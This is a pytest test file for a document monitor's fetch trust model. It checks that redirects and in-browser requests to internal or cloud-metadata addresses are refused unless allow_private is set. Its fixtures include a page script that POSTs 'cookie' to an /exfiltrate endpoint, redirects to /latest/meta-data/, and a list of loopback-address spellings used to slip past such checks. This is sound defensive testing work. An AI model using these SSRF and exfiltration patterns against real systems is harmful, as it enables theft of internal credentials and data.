"""The trust model for fetching (issue 13, finding 4), against real loopback servers: a redirect to another
host with an internal address (127.0.0.2, `localhost`, `0x7f000002`, `[::ffff:127.0.0.2]`) is refused and
stores nothing; `allow_private: true` opens it; redirects on the document's own host still work and the
final URL is recorded and shown; headless Chromium never lets the page's scripts reach an internal address
of another origin."""

from __future__ import annotations

import http.server
import json
import sqlite3
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from monitor.fetch.browser import browser_available, fetch_rendered
from monitor.fetch.trust import internal_address, refused_redirect, refused_request

TERMS = ("<html><body><main><h1>Terms</h1>" + "".join(
    f"<p>Clause {i}: we keep your data only as long as section {i} of these terms allows.</p>"
    for i in range(8)) + "</main></body></html>")
SECRET = ("<html><body><main><h1>Instance metadata</h1><p>AccessKeyId AKIAEXAMPLE and SecretAccessKey "
          "wJalrXUtnFEMI are the credentials of this machine; never show them to anyone at all.</p>"
          "</main></body></html>")


class Internal:
    """A server on 127.0.0.2 standing for an internal service (cloud metadata, an admin interface)."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _answer(self) -> None:
                outer.requests.append((self.command, self.path))
                body = SECRET.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05},
                                       daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
def internal() -> Iterator[Internal]:
    server = Internal()
    try:
        yield server
    finally:
        server.stop()


@pytest.mark.parametrize("host", ["127.0.0.2", "localhost", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]",
                                  "169.254.169.254", "10.1.2.3", "192.168.0.1", "100.64.0.1", "0.0.0.0"])
def test_internal_addresses_in_any_spelling_are_recognised(host):
    assert internal_address(host) is not None
    assert refused_redirect("https://example.com/terms", f"http://{host}/x") is not None
    assert refused_redirect("https://example.com/terms", f"http://{host}/x", allow_private=True) is None


def test_public_addresses_and_the_documents_own_host_are_allowed():
    assert internal_address("93.184.216.34") is None
    assert refused_redirect("http://10.0.0.5/terms", "https://10.0.0.5/terms") is None      # the same host
    assert refused_redirect("https://example.com/a", "https://93.184.216.34/b") is None
    assert not refused_request("http://127.0.0.1:8000/t", "http://127.0.0.1:8000/app.js")
    assert refused_request("http://127.0.0.1:8000/t", "http://127.0.0.1:9000/admin")         # another origin
    assert not refused_request("http://127.0.0.1:8000/t", "data:text/plain,x")


def watch(write_watchlist, url: str, extra: str = "") -> None:
    write_watchlist(f"services:\n  acme:\n    documents:\n      terms:\n        url: {url}\n{extra}")


def stored_texts(db_path) -> list[str]:
    from monitor.store import Store

    store = Store(db_path)
    try:
        return [store.version_text(d, n) for d, n in
                store.conn.execute("SELECT document_id, number FROM versions").fetchall()]
    finally:
        store.close()


@pytest.mark.parametrize("target", ["127.0.0.2:{internal}", "localhost:{page}", "0x7f000002:{internal}",
                                    "[::ffff:127.0.0.2]:{internal}"])
def test_a_redirect_to_an_internal_host_is_refused_and_nothing_is_stored(target, page_server, internal,
                                                                          write_watchlist, run_cli, db_path):
    where = target.format(internal=internal.port, page=page_server.httpd.server_address[1])
    page_server.set("/secret", SECRET)
    page_server.set("/terms", b"", status=302, headers={"Location": f"http://{where}/secret"})
    watch(write_watchlist, page_server.url("/terms"))
    result = run_cli("check")
    assert "refused: not a public address" in result.output and "allow_private" in result.output, result.output
    assert internal.requests == [] and all(path != "/secret" for path, _ in page_server.requests)
    assert stored_texts(db_path) == []
    assert "refused" in run_cli("status").output


def test_allow_private_opens_it_and_the_final_url_is_shown(page_server, internal, write_watchlist, run_cli,
                                                            db_path):
    final = f"http://127.0.0.2:{internal.port}/latest/meta-data/"
    page_server.set("/terms", b"", status=302, headers={"Location": final})
    watch(write_watchlist, page_server.url("/terms"), "        allow_private: true\n")
    assert "new" in run_cli("check").output
    assert internal.requests == [("GET", "/latest/meta-data/")]
    assert f"acme/terms: redirected to {final}" in run_cli("status").output
    assert json.loads(run_cli("status", "--json").output)[0]["final_url"] == final
    assert f"version 1 fetched from {final}" in run_cli("history", "acme/terms").output
    assert json.loads(run_cli("history", "acme/terms", "--json").output)[0]["final_url"] == final


def test_a_redirect_on_the_documents_own_host_is_followed_and_recorded(page_server, write_watchlist, run_cli,
                                                                        db_path):
    page_server.set("/old", b"", status=301, headers={"Location": "/new"})
    page_server.set("/new", TERMS)
    watch(write_watchlist, page_server.url("/old"))
    assert "new" in run_cli("check").output
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("SELECT final_url FROM snapshots").fetchone()[0] == page_server.url("/new")
    conn.close()
    assert f"redirected to {page_server.url('/new')}" in run_cli("status").output


def test_allow_private_must_be_a_boolean(write_watchlist, run_cli, page_server):
    watch(write_watchlist, page_server.url("/terms"), "        allow_private: sometimes\n")
    result = run_cli("validate")
    assert result.exit_code == 2
    assert "watchlist.yaml:6: services.acme.documents.terms.allow_private:" in result.output


needs_chromium = pytest.mark.skipif(not browser_available(), reason="Chromium or playwright not installed")

SCRIPTED = """<html><head><title>Terms</title></head><body><main><h1>Terms</h1><p id="p">{text}</p></main>
<img src="http://127.0.0.2:{port}/pixel.gif">
<script>
fetch("http://127.0.0.2:{port}/exfiltrate", {{method: "POST", mode: "no-cors", body: "cookie"}})
  .catch(function () {{}});
fetch("http://localhost:{port}/exfiltrate").catch(function () {{}});
fetch("/own-origin.json").then(function (r) {{ return r.text(); }})
  .then(function (t) {{ document.getElementById("p").textContent += " " + t; }});
</script></body></html>"""


@needs_chromium
def test_the_browser_refuses_the_pages_requests_to_internal_addresses(page_server, internal, caplog):
    text = "These terms govern the use of the service and what we do with your data."
    page_server.set("/terms", SCRIPTED.format(text=text, port=internal.port))
    page_server.set("/own-origin.json", "own-origin-answer", content_type="application/json")
    result = fetch_rendered(page_server.url("/terms"), timeout=20, user_agent="tosmon-test",
                            max_bytes=10_000_000)
    assert internal.requests == []
    assert "own-origin-answer" in result.text                 # the document's own origin still works
    assert "refused 3 request(s)" in caplog.text or "refused 2 request(s)" in caplog.text


@needs_chromium
def test_the_browser_reaches_them_with_allow_private(page_server, internal):
    page_server.set("/terms", SCRIPTED.format(text="Terms of an intranet tool.", port=internal.port))
    page_server.set("/own-origin.json", "own", content_type="application/json")
    fetch_rendered(page_server.url("/terms"), timeout=20, user_agent="tosmon-test", max_bytes=10_000_000,
                   allow_private=True)
    assert ("POST", "/exfiltrate") in internal.requests


@needs_chromium
def test_a_browser_navigation_ending_on_an_internal_host_is_an_error(page_server, internal):
    from monitor.errors import FetchNetworkError

    page_server.set("/terms", b"", status=302,
                    headers={"Location": f"http://127.0.0.2:{internal.port}/latest/meta-data/"})
    with pytest.raises(FetchNetworkError, match="refused"):
        fetch_rendered(page_server.url("/terms"), timeout=20, user_agent="tosmon-test", max_bytes=10_000_000)
